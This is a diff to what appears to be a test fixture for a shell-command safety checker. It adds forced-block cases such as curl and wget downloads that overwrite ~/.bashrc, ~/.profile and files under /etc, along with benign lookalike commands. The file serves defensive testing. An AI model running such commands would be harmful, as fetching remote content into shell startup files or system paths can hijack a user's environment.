@@ -77,6 +77,11 @@ export const FORCE: ForceCase[] = [
       'mv x ../../outside',
       'install -m 755 x ~/bin/x',
       'cp -t /etc x',
+      'curl -o ~/.bashrc https://example.com/x',
+      'curl -fsSLo /etc/x https://example.com/x',
+      'wget -O ~/.profile https://example.com/x',
+      'sort -o ~/.bashrc x',
+      'tar -czf /tmp/a.tgz src',
     ],
   },
   {
@@ -373,4 +378,7 @@ export const LOOKALIKES: string[] = [
   'npm test | tee out.log',
   'mkdir -p build/out',
   'cp -r src/ backup/',
+  'curl -s https://x -o -',
+  'curl -o out.json https://x',
+  'sort -n x -o sorted.txt',
 ];
